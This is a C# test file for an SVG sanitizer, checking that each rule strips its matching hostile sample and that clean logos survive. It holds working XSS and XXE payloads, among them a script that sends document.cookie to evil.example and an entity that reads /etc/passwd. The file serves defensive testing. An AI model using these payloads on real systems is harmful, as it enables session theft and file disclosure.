using System.Text;
using System.Xml.Linq;
using RallyNov.Core.Media;

namespace RallyNov.Core.Tests.Media;

/// <summary>
/// The SVG cleaner against a hostile corpus. Each sample names the one rule that defends against
/// it and a test that shows the danger in the output: with every rule the danger is gone, and with
/// that rule alone switched off it comes back — so each test would fail without its rule.
/// </summary>
public sealed class SvgSanitizerTests
{
    private const string Open = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 100 40\">";
    private const string Shape = "<rect id=\"fond\" width=\"100\" height=\"40\" fill=\"#00609c\"/>";

    /// <summary>(name, SVG, the rule that removes the danger, what shows the danger in the output).</summary>
    public static TheoryData<string, string, string, string> Hostile => new()
    {
        { "script element", Open + Shape + "<script>alert(document.domain)</script></svg>", nameof(SvgRules.Elements), "<script" },
        { "script in CDATA", Open + Shape + "<script type=\"text/ecmascript\"><![CDATA[fetch('https://evil.example/'+document.cookie)]]></script></svg>", nameof(SvgRules.Elements), "evil.example" },
        { "script nested in an allowed element", Open + "<g><title>Logo<script>alert(1)</script></title>" + Shape + "</g></svg>", nameof(SvgRules.Elements), "alert(1)" },
        { "script in the XHTML namespace", Open.Replace("<svg ", "<svg xmlns:h=\"http://www.w3.org/1999/xhtml\" ", StringComparison.Ordinal) + Shape + "<h:script>alert(1)</h:script></svg>", nameof(SvgRules.Elements), "alert(1)" },
        { "onload on the root", Open.Replace("viewBox", "onload=\"alert(1)\" viewBox", StringComparison.Ordinal) + Shape + "</svg>", nameof(SvgRules.Attributes), "onload" },
        { "onclick on a shape", Open + "<rect width=\"10\" height=\"10\" onclick=\"location='https://evil.example'\"/></svg>", nameof(SvgRules.Attributes), "onclick" },
        { "onmouseover in capitals", Open + "<circle r=\"5\" ONMOUSEOVER=\"alert(1)\"/></svg>", nameof(SvgRules.Attributes), "ONMOUSEOVER" },
        { "xml:base redirecting references", Open + "<g xml:base=\"https://evil.example/\">" + Shape + "</g></svg>", nameof(SvgRules.Attributes), "evil.example" },
        { "foreignObject with HTML", Open + Shape + "<foreignObject width=\"100\" height=\"40\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"></iframe></foreignObject></svg>", nameof(SvgRules.Elements), "foreignObject" },
        { "set rewriting an href", Open + "<a href=\"#fond\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/>" + Shape + "</a></svg>", nameof(SvgRules.Elements), "<set" },
        { "animate giving an event handler", Open + "<rect width=\"9\" height=\"9\"><animate attributeName=\"onbegin\" values=\"alert(1)\"/></rect></svg>", nameof(SvgRules.Elements), "<animate" },
        { "use of an external file", Open + "<use href=\"https://evil.example/sprite.svg#logo\"/>" + Shape + "</svg>", nameof(SvgRules.References), "evil.example" },
        { "xlink:href to an external image", Open + Shape + "<use xlink:href=\"http://evil.example/pixel.svg#a\"/></svg>", nameof(SvgRules.References), "evil.example" },
        { "link to javascript", Open + "<a xlink:href=\"javascript:alert(1)\">" + Shape + "</a></svg>", nameof(SvgRules.References), "javascript:" },
        { "link with an encoded javascript", Open + "<a href=\"&#106;avascript:alert(1)\">" + Shape + "</a></svg>", nameof(SvgRules.References), "avascript:" },
        { "data URI in an href", Open + Shape + "<use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/></svg>", nameof(SvgRules.References), "data:" },
        { "fill from an external URL", Open + "<rect width=\"9\" height=\"9\" fill=\"url(https://evil.example/p.svg#g)\"/></svg>", nameof(SvgRules.References), "evil.example" },
        { "filter image from elsewhere", Open + Shape + "<filter id=\"f\"><feImage href=\"https://evil.example/x.png\"/></filter></svg>", nameof(SvgRules.References), "evil.example" },
        { "style element importing a sheet", Open + "<style>@import url(https://evil.example/x.css); rect { fill: red }</style>" + Shape + "</svg>", nameof(SvgRules.StyleSheets), "@import" },
        { "style element with an external url", Open + "<style>rect { fill: url('https://evil.example/#p') }</style>" + Shape + "</svg>", nameof(SvgRules.StyleSheets), "evil.example" },
        { "style element hiding url behind an escape", Open + "<style>rect { background: u\\72l(https://evil.example/) }</style>" + Shape + "</svg>", nameof(SvgRules.StyleSheets), "evil.example" },
        { "style attribute with an external url", Open + "<rect width=\"9\" height=\"9\" style=\"fill:url(https://evil.example/#p)\"/></svg>", nameof(SvgRules.StyleSheets), "evil.example" },
        { "style attribute with a behaviour", Open + "<rect width=\"9\" height=\"9\" style=\"behavior:url(#x);fill:red\"/></svg>", nameof(SvgRules.StyleSheets), "behavior" },
        { "xml-stylesheet instruction", "<?xml version=\"1.0\"?><?xml-stylesheet href=\"https://evil.example/x.css\" type=\"text/css\"?>" + Open + Shape + "</svg>", nameof(SvgRules.ProcessingInstructions), "xml-stylesheet" },
        { "entity expanded into the text", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e \"EXPANDED-ENTITY\">]>" + Open + Shape + "<text>&e;</text></svg>", nameof(SvgRules.Entities), "EXPANDED-ENTITY" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Each_danger_is_removed_by_its_rule_and_comes_back_without_it(string name, string svg, string ruleName, string danger)
    {
        var rule = Enum.Parse<SvgRules>(ruleName);
        var clean = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg));
        if (clean.Succeeded)
        {
            var output = Encoding.UTF8.GetString(clean.Svg!);
            Assert.False(output.Contains(danger, StringComparison.Ordinal), $"{name}: « {danger} » is still in {output}");
            AssertWellFormedSvg(output);
        }
        else
        {
            Assert.False(string.IsNullOrWhiteSpace(clean.Error), name);
        }

        var withoutRule = new SvgSanitizer(SvgRules.All & ~rule).Sanitize(Encoding.UTF8.GetBytes(svg));
        Assert.True(withoutRule.Succeeded, $"{name}: without {rule} the sample should pass ({withoutRule.Error})");
        Assert.Contains(danger, Encoding.UTF8.GetString(withoutRule.Svg!), StringComparison.Ordinal);
    }

    [Fact]
    public void A_clean_logo_keeps_its_drawing_internal_references_and_text()
    {
        var svg = Open
            + "<title>Logo rally'nov</title><defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#00609c\"/><stop offset=\"1\" stop-color=\"#c2410c\"/></linearGradient>"
            + "<path id=\"p\" d=\"M0 0 L10 10\"/></defs><style>.t { font-family: sans-serif; fill: url(#g) }</style>"
            + "<rect width=\"100\" height=\"40\" fill=\"url(#g)\" style=\"stroke:#000\"/><use xlink:href=\"#p\"/><use href=\"#p\" x=\"5\"/>"
            + "<a href=\"#p\"><text class=\"t\" x=\"4\" y=\"30\" xml:space=\"preserve\">rally&apos;nov &amp; co</text></a></svg>";

        var result = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg));

        Assert.True(result.Succeeded, result.Error);
        Assert.Empty(result.Removed);
        var output = XDocument.Parse(Encoding.UTF8.GetString(result.Svg!));
        XNamespace svgNs = "http://www.w3.org/2000/svg";
        XNamespace xlink = "http://www.w3.org/1999/xlink";
        Assert.Equal(svgNs + "svg", output.Root!.Name);
        Assert.Equal("url(#g)", output.Root.Element(svgNs + "rect")!.Attribute("fill")!.Value);
        Assert.Equal("stroke:#000", output.Root.Element(svgNs + "rect")!.Attribute("style")!.Value);
        Assert.Equal("#p", output.Root.Elements(svgNs + "use").First().Attribute(xlink + "href")!.Value);
        Assert.Equal("#p", output.Root.Elements(svgNs + "use").Last().Attribute("href")!.Value);
        Assert.Contains("fill: url(#g)", output.Root.Element(svgNs + "style")!.Value, StringComparison.Ordinal);
        Assert.Equal("rally'nov & co", output.Root.Descendants(svgNs + "text").Single().Value);
        Assert.Equal("Logo rally'nov", output.Root.Element(svgNs + "title")!.Value);
    }

    [Fact]
    public void What_was_removed_is_told_in_French()
    {
        var svg = Open.Replace("viewBox", "onload=\"a()\" viewBox", StringComparison.Ordinal)
            + Shape + "<script>a()</script><script>b()</script><use href=\"https://evil.example/a.svg#x\"/></svg>";

        var result = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg));

        Assert.True(result.Succeeded, result.Error);
        Assert.Equal(["1 attribut d'événement (onload)", "2 scripts", "1 référence externe"], result.Removed);
        Assert.Equal("ce qui a été retiré par sécurité : 1 attribut d'événement (onload), 2 scripts, 1 référence externe", result.RemovedSummary);
    }

    [Theory]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect></svg>", "mal formé")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/>", "mal formé")]
    [InlineData("pas du tout du XML", "mal formé")]
    [InlineData("<html><body><script>alert(1)</script></body></html>", "n'est pas une image SVG")]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&b;</text></svg>", "entités XML")]
    [InlineData("<!DOCTYPE svg [<!ENTITY ext SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&ext;</text></svg>", "entités XML")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "il ne reste rien à dessiner")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/a.png\" width=\"9\" height=\"9\"/></svg>", "il ne reste rien à dessiner")]
    public void Documents_that_cannot_be_made_safe_are_refused_in_French(string svg, string reason)
    {
        var result = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg));

        Assert.False(result.Succeeded);
        Assert.Contains(reason, result.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void A_public_doctype_without_entities_is_dropped_and_a_missing_namespace_added()
    {
        const string svg = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">"
            + "<svg width=\"10\" height=\"10\"><!-- Inkscape --><circle r=\"4\" cx=\"5\" cy=\"5\"/></svg>";

        var result = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg));

        Assert.True(result.Succeeded, result.Error);
        var output = Encoding.UTF8.GetString(result.Svg!);
        Assert.DoesNotContain("DOCTYPE", output, StringComparison.Ordinal);
        Assert.DoesNotContain("w3.org/Graphics", output, StringComparison.Ordinal);
        Assert.DoesNotContain("Inkscape", output, StringComparison.Ordinal);
        Assert.Equal(XName.Get("circle", "http://www.w3.org/2000/svg"), XDocument.Parse(output).Root!.Elements().Single().Name);
    }

    [Fact]
    public void Editor_metadata_in_other_namespaces_is_dropped_quietly()
    {
        const string svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" inkscape:version=\"1.3\">"
            + "<sodipodi:namedview id=\"v\"/><g inkscape:label=\"Calque 1\"><rect width=\"4\" height=\"4\"/></g></svg>";

        var result = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg));

        Assert.True(result.Succeeded, result.Error);
        Assert.Empty(result.Removed);
        var output = Encoding.UTF8.GetString(result.Svg!);
        Assert.DoesNotContain("inkscape", output, StringComparison.Ordinal);
        Assert.DoesNotContain("sodipodi", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Too_deep_a_document_is_refused()
    {
        var svg = new StringBuilder("<svg xmlns=\"http://www.w3.org/2000/svg\">");
        for (var i = 0; i < SvgSanitizer.MaxDepth + 5; i++)
        {
            svg.Append("<g>");
        }

        svg.Append("<rect width=\"1\" height=\"1\"/>");
        for (var i = 0; i < SvgSanitizer.MaxDepth + 5; i++)
        {
            svg.Append("</g>");
        }

        svg.Append("</svg>");
        var result = new SvgSanitizer().Sanitize(Encoding.UTF8.GetBytes(svg.ToString()));

        Assert.False(result.Succeeded);
        Assert.Contains("imbrique trop", result.Error, StringComparison.Ordinal);
    }

    private static void AssertWellFormedSvg(string output)
    {
        var document = XDocument.Parse(output);
        Assert.Equal(XName.Get("svg", "http://www.w3.org/2000/svg"), document.Root!.Name);
        Assert.Null(document.DocumentType);
    }
}
